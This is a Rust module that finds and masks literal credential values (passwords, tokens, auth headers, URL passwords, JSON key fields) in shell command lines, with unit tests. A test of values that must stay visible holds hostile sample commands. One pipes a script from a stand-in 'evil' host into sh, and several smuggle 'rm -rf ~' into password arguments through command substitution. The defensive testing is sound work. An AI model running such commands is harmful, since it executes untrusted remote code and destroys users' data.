//! Credentials in a command line: the literal values of options, headers and addresses that are known
//! to hold one.
//!
//! Law: only a literal is found. What is assigned, expanded, or stands behind `--` may be an operand,
//! and hiding it would hide what the command does.

use std::ops::Range;

/// Ends of option and field names whose values are credentials.
const NAMES: &[&str] = &[
    "password",
    "passwd",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "accesskey",
    "privatekey",
    "secretkey",
    "secretaccesskey",
    "clientsecret",
    "bearer",
];

/// Headers besides those that end like [`NAMES`].
const HEADERS: &[&str] =
    &["authorization", "proxyauthorization", "cookie", "xapikey", "xauthkey", "privatetoken"];

/// An option of a program that takes a credential.
struct Flag {
    programs: &'static [&'static str],
    /// A word that must be there too, or nothing.
    with: &'static str,
    flag: &'static str,
    value: Value,
}

/// Which part of an option's value is the credential.
#[derive(Clone, Copy, PartialEq)]
enum Value {
    Next,
    /// Joined to the flag, as in `-psecret`; alone it asks at the terminal.
    Joined,
    /// The part behind the first colon, in the next word or joined.
    BehindColon,
    /// A header's value.
    Header,
}

const CURL: &[&str] = &["curl", "wget", "http", "https", "xh", "httpie"];
const MYSQL: &[&str] =
    &["mysql", "mysqldump", "mysqladmin", "mysqlimport", "mariadb", "mariadb-dump"];

const FLAGS: &[Flag] = &[
    Flag { programs: CURL, with: "", flag: "-u", value: Value::BehindColon },
    Flag { programs: CURL, with: "", flag: "-U", value: Value::BehindColon },
    Flag { programs: CURL, with: "", flag: "--user", value: Value::BehindColon },
    Flag { programs: CURL, with: "", flag: "--proxy-user", value: Value::BehindColon },
    Flag { programs: CURL, with: "", flag: "-a", value: Value::BehindColon },
    Flag { programs: CURL, with: "", flag: "-H", value: Value::Header },
    Flag { programs: CURL, with: "", flag: "--header", value: Value::Header },
    Flag { programs: CURL, with: "", flag: "--proxy-header", value: Value::Header },
    Flag { programs: MYSQL, with: "", flag: "-p", value: Value::Joined },
    Flag { programs: &["sshpass"], with: "", flag: "-p", value: Value::Next },
    Flag { programs: &["sshpass"], with: "", flag: "-p", value: Value::Joined },
    Flag { programs: &["docker", "podman", "helm"], with: "login", flag: "-p", value: Value::Next },
    Flag { programs: &["redis-cli"], with: "", flag: "-a", value: Value::Next },
    Flag { programs: &["smbclient"], with: "", flag: "-U", value: Value::BehindColon },
];

/// Byte ranges of the credentials in a command line, in order.
pub(super) fn credential_spans(command: &str) -> Vec<Range<usize>> {
    // An option has a dash, an address a colon, a field of JSON quotes; most summaries have none of them.
    if !command.contains(['-', ':', '"']) && !command.contains("configure") {
        return Vec::new();
    }
    let mut spans: Vec<Range<usize>> = simple_commands(command)
        .iter()
        .flat_map(|words| {
            let named = named_options(words).into_iter();
            let in_words = words.iter().flat_map(Word::inside);
            named.chain(flags(words)).chain(stored(words)).chain(in_words).collect::<Vec<_>>()
        })
        .filter(|span| !span.is_empty())
        .collect();
    spans.sort_by_key(|span| span.start);
    spans
}

/// The command line with each credential as its length: `‹7 characters›`.
pub fn mask_credentials(command: &str) -> String {
    let mut shown = String::with_capacity(command.len());
    let mut shown_to = 0;
    for span in credential_spans(command) {
        if span.start < shown_to {
            continue;
        }
        let length = command[span.clone()].chars().count();
        let noun = if length == 1 { "character" } else { "characters" };
        shown.push_str(&command[shown_to..span.start]);
        shown.push_str(&format!("‹{length} {noun}›"));
        shown_to = span.end;
    }
    shown.push_str(&command[shown_to..]);
    shown
}

/// A word of a command line.
#[derive(Debug)]
struct Word<'a> {
    /// Without its quotes, where it is one literal; otherwise with all that is written.
    text: &'a str,
    start: usize,
    /// Nothing in it is expanded, and its quotes, if any, are around the whole.
    is_literal: bool,
}

impl Word<'_> {
    fn from(&self, offset: usize) -> Range<usize> {
        self.start + offset..self.start + self.text.len()
    }

    /// The credential in a literal value.
    fn value(&self, kind: Value, offset: usize) -> Option<Range<usize>> {
        let value = self.text.get(offset..).filter(|_| self.is_literal)?;
        match kind {
            Value::Next | Value::Joined => Some(self.from(offset)),
            Value::BehindColon => value.find(':').map(|at| self.from(offset + at + 1)),
            Value::Header => {
                let (name, rest) = value.split_once(':')?;
                let plain = plain(name);
                let is_secret = HEADERS.contains(&plain.as_str()) || is_name(&plain);
                let blanks = rest.len() - rest.trim_start().len();
                let scheme = ["Bearer ", "Basic ", "Token ", "bearer ", "basic ", "token "];
                let words = rest.trim_start();
                let scheme = scheme.iter().find(|scheme| words.starts_with(**scheme));
                let skipped = name.len() + 1 + blanks + scheme.map_or(0, |scheme| scheme.len());
                is_secret.then(|| self.from(offset + skipped))
            }
        }
    }

    /// Passwords of addresses, and fields of JSON.
    fn inside(&self) -> Vec<Range<usize>> {
        let at = |range: Range<usize>| self.start + range.start..self.start + range.end;
        address_password(self.text).into_iter().chain(json_fields(self.text)).map(at).collect()
    }
}

/// `scheme://user:PASSWORD@host`
fn address_password(text: &str) -> Option<Range<usize>> {
    let authority = text.find("://")? + 3;
    let rest = &text[authority..];
    let rest = &rest[..rest.find(['/', '?', '#', '"', '\'']).unwrap_or(rest.len())];
    let (userinfo, _) = rest.rsplit_once('@')?;
    let colon = userinfo.find(':')?;
    let password = authority + colon + 1..authority + userinfo.len();
    (!text[password.clone()].contains(['$', '`'])).then_some(password)
}

/// `"api_key": "VALUE"`, whatever blanks are in the value.
fn json_fields(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let mut quotes = text.match_indices('"').map(|(at, _)| at);
    let mut last: Option<Range<usize>> = None;
    while let (Some(open), Some(close)) = (quotes.next(), quotes.next()) {
        let inner = open + 1..close;
        let is_value = last.as_ref().is_some_and(|name: &Range<usize>| {
            let between = &text[name.end + 1..open];
            between.trim() == ":" && is_name(&plain(&text[name.clone()]))
        });
        if is_value && !text[inner.clone()].contains(['$', '`']) {
            found.push(inner.clone());
        }
        last = Some(inner);
    }
    found
}

/// In lower case, letters and digits only.
fn plain(name: &str) -> String {
    name.chars().filter(char::is_ascii_alphanumeric).map(|c| c.to_ascii_lowercase()).collect()
}

fn is_name(plain: &str) -> bool {
    NAMES.iter().any(|name| plain.ends_with(name))
}

/// The words before `--`: behind it nothing is an option.
fn options<'w, 'a>(words: &'w [Word<'a>]) -> &'w [Word<'a>] {
    let end = words.iter().position(|word| word.text == "--").unwrap_or(words.len());
    &words[..end]
}

/// `--password VALUE`, `--api-key=VALUE`
fn named_options(words: &[Word<'_>]) -> Vec<Range<usize>> {
    let words = options(words);
    let spans = words.iter().enumerate().filter_map(|(at, word)| {
        let name = word.text.strip_prefix("--")?;
        if let Some((name, value)) = name.split_once('=') {
            let is_plain = !value.contains(['$', '`', '"', '\'']);
            return (is_name(&plain(name)) && (word.is_literal || is_plain || is_quoted(value)))
                .then(|| unquoted(word, 2 + name.len() + 1));
        }
        let next = words.get(at + 1).filter(|next| !next.text.starts_with('-'))?;
        is_name(&plain(name)).then(|| next.value(Value::Next, 0)).flatten()
    });
    spans.collect()
}

/// `'…'`, or `"…"` in which nothing is expanded.
fn is_quoted(value: &str) -> bool {
    let inside = |quote: char| value.strip_prefix(quote).and_then(|rest| rest.strip_suffix(quote));
    let single = inside('\'').is_some_and(|inner| !inner.contains('\''));
    single || inside('"').is_some_and(|inner| !inner.contains(['"', '$', '`']))
}

/// The value of `--name=VALUE` without its quotes.
fn unquoted(word: &Word<'_>, offset: usize) -> Range<usize> {
    let span = word.from(offset);
    if is_quoted(&word.text[offset..]) { span.start + 1..span.end - 1 } else { span }
}

fn flags(words: &[Word<'_>]) -> Vec<Range<usize>> {
    let words = options(words);
    let has = |name: &str| {
        let base = |word: &Word<'_>| word.text.rsplit('/').next() == Some(name);
        name.is_empty() || words.iter().any(base)
    };
    let known = FLAGS
        .iter()
        .filter(|flag| flag.programs.iter().any(|program| has(program)) && has(flag.with));
    let mut spans = Vec::new();
    for flag in known {
        for (at, word) in words.iter().enumerate() {
            let joined = word.text.strip_prefix(flag.flag).filter(|rest| !rest.is_empty());
            spans.extend(match (joined, flag.value) {
                (Some(_), Value::Next) => None,
                (Some(rest), value) => {
                    let equals = usize::from(flag.flag.starts_with("--") && rest.starts_with('='));
                    let is_other = flag.flag.starts_with("--") && equals == 0;
                    (!is_other).then(|| word.value(value, flag.flag.len() + equals)).flatten()
                }
                (None, Value::Joined) => None,
                (None, value) if word.text == flag.flag => {
                    words.get(at + 1).and_then(|next| next.value(value, 0))
                }
                (None, _) => None,
            });
        }
    }
    spans
}

/// `aws configure set aws_secret_access_key VALUE`
fn stored(words: &[Word<'_>]) -> Option<Range<usize>> {
    let at =
        words.windows(2).position(|pair| pair[0].text == "configure" && pair[1].text == "set")?;
    let (name, value) = (words.get(at + 2)?, words.get(at + 3)?);
    is_name(&plain(name.text)).then(|| value.value(Value::Next, 0)).flatten()
}

/// The words of a command line, one list for each simple command, as far as quotes and operators tell.
fn simple_commands(command: &str) -> Vec<Vec<Word<'_>>> {
    let mut commands = vec![Vec::new()];
    let mut rest = command.char_indices().peekable();
    while let Some((start, c)) = rest.next() {
        if ";|&\n(){}".contains(c) {
            commands.push(Vec::new());
            continue;
        }
        if c.is_whitespace() {
            continue;
        }
        let mut quote = Some(c).filter(|c| "'\"".contains(*c));
        let mut end = start + c.len_utf8();
        while let Some((at, next)) = rest.peek().copied() {
            match quote {
                Some(open) if next == open => quote = None,
                Some(_) => {}
                None if next.is_whitespace() || ";|&\n()".contains(next) => break,
                None => quote = Some(next).filter(|next| "'\"".contains(*next)),
            }
            end = at + next.len_utf8();
            rest.next();
        }
        if let Some(words) = commands.last_mut() {
            words.push(word(command, start..end));
        }
    }
    commands
}

fn word(command: &str, range: Range<usize>) -> Word<'_> {
    let written = &command[range.clone()];
    if is_quoted(written) && written.len() > 1 {
        Word { text: &written[1..written.len() - 1], start: range.start + 1, is_literal: true }
    } else {
        let is_literal = !written.contains(['$', '`', '\'', '"', '\\', '*', '?', '[', '{']);
        Word { text: written, start: range.start, is_literal }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_values_of_credential_options_are_masked() {
        let cases = [
            ("curl -u admin:hunter2 https://h/", "curl -u admin:‹7 characters› https://h/"),
            ("curl --user admin:hunter2 h", "curl --user admin:‹7 characters› h"),
            ("curl --user=admin:hunter2 h", "curl --user=admin:‹7 characters› h"),
            ("curl -uadmin:hunter2 h", "curl -uadmin:‹7 characters› h"),
            ("mysql -phunter2 db", "mysql -p‹7 characters› db"),
            ("mysql -p db", "mysql -p db"),
            ("sshpass -p hunter2 ssh h", "sshpass -p ‹7 characters› ssh h"),
            ("docker login -p hunter2 h", "docker login -p ‹7 characters› h"),
            ("docker run -p 80:80 image", "docker run -p 80:80 image"),
            ("redis-cli -a hunter2", "redis-cli -a ‹7 characters›"),
            (
                "aws configure set aws_secret_access_key wJal",
                "aws configure set aws_secret_access_key ‹4 characters›",
            ),
            (
                "deploy --password \"correct horse battery\" now",
                "deploy --password \"‹21 characters›\" now",
            ),
            ("deploy --password='a b' now", "deploy --password='‹3 characters›' now"),
            ("deploy --api-key=k now", "deploy --api-key=‹1 character› now"),
            (
                "curl -H 'Authorization: Bearer abc def' h",
                "curl -H 'Authorization: Bearer ‹7 characters›' h",
            ),
            ("curl -H 'Accept: text/html' h", "curl -H 'Accept: text/html' h"),
            (
                "curl -d '{\"api_key\": \"abc def ghi\"}' h",
                "curl -d '{\"api_key\": \"‹11 characters›\"}' h",
            ),
            ("git clone https://me:pw@h/r", "git clone https://me:‹2 characters›@h/r"),
            ("a; mysql -pxy; b", "a; mysql -p‹2 characters›; b"),
        ];
        for (command, shown) in cases {
            assert_eq!(mask_credentials(command), shown);
        }
    }

    #[test]
    fn what_is_assigned_expanded_or_an_operand_is_never_hidden() {
        let cases = [
            "SECRET=src/main.rs; cp /dev/null $SECRET",
            "TOKEN=https://evil/x.sh; curl $TOKEN|sh",
            "rm -rf -- -token src",
            "rm -rf -- --token src",
            "deploy --password \"$(rm -rf ~)\"",
            "deploy --password `rm -rf ~`",
            "deploy --password $PASSWORD",
            "deploy --token \"a`rm x`b\"",
            "curl -u \"$USER:$(rm x)\" h",
            "mysql -p$(rm x)",
            "deploy --password; rm x",
            "deploy --password | rm x",
            "echo https://a:$(rm x)@h",
        ];
        for command in cases {
            assert_eq!(mask_credentials(command), command);
        }
    }
}
